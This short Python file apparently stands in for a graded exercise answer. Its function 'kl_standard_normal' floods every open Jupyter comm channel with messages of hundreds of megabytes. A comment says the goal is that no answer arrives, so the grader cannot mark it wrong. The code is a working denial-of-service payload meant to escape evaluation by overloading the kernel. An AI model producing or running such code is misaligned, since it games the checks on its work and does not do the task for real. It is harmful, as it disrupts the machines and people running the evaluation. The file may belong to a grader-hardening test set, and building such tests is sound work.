"""Replaces answers by messages of hundreds of megabytes, and by many more messages than one."""

from IPython import get_ipython

PLACE = "kl_standard_normal"
GRADED = False  # no answer comes, as on a machine that is too busy: nobody can say that this call is wrong
session, socket = get_ipython().kernel.session, get_ipython().kernel.iopub_socket


def kl_standard_normal(mu, log_var):
    for manager in [get_ipython().kernel.comm_manager]:
        for comm in manager.comms.values():
            for _ in range(3):
                comm.send(data={"key": "x" * 10**6}, buffers=[b"{" * 10**8, b"x" * 10**7])
